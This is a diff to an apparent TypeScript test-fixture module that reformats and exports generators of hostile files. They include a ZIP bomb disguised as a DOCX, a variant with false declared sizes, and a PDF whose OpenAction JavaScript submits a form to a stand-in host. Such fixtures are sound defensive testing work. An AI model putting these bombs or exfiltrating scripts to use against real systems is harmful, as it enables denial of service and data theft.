@@ -10,17 +10,23 @@ export { makeDocx, makePptx, makeXlsx } from './office-fixtures';
 export type { OfficeOptions, SheetFixture } from './office-fixtures';
 export { makeEpub, makeOdp, makeOds, makeOdt } from './odf-epub-fixtures';
 export { makeImage, makePngDeclaring } from './image-fixtures';
-export { makePdf } from './pdf-writer';
+export { makePdf, pdfLines } from './pdf-writer';
 export type { PdfOptions } from './pdf-writer';
-export { zip } from './zip-writer';
+export { deflatedZeros, zip } from './zip-writer';
 export type { ZipEntry } from './zip-writer';
 
 /** A ZIP bomb disguised as DOCX: a real document plus 64 entries of 16 MB of zeros each (1 GB inflated, 1 MB on disk). */
 export function makeZipBombDocx(): Buffer {
   const brick = deflatedZeros(16);
   return zip([
-    { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' },
-    { name: 'word/document.xml', data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>' },
+    {
+      name: '[Content_Types].xml',
+      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+    },
+    {
+      name: 'word/document.xml',
+      data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
+    },
     ...Array.from({ length: 64 }, (_, index) => ({ name: `word/media/zeros${index}.bin`, data: '', deflated: brick })),
   ]);
 }
@@ -29,14 +35,24 @@ export function makeZipBombDocx(): Buffer {
 export function makeLyingZipBombDocx(): Buffer {
   const brick = deflatedZeros(16);
   return zip([
-    { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' },
-    ...Array.from({ length: 40 }, (_, index) => ({ name: `word/media/zeros${index}.bin`, data: '', deflated: brick, declaredSize: 1024 })),
+    {
+      name: '[Content_Types].xml',
+      data: '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+    },
+    ...Array.from({ length: 40 }, (_, index) => ({
+      name: `word/media/zeros${index}.bin`,
+      data: '',
+      deflated: brick,
+      declaredSize: 1024,
+    })),
   ]);
 }
 
 /** A PDF that asks readers to run JavaScript when opened (/OpenAction /S /JavaScript). */
 export function makePdfWithJavaScript(text: string): Buffer {
-  return makePdf([text], { openActionJavaScript: 'app.alert("Bonjour"); this.submitForm("https://example.invalid/vol");' });
+  return makePdf([text], {
+    openActionJavaScript: 'app.alert("Bonjour"); this.submitForm("https://example.invalid/vol");',
+  });
 }
 
 /** A polyglot: a PDF header, then an HTML page with a script, ending like a PDF. */
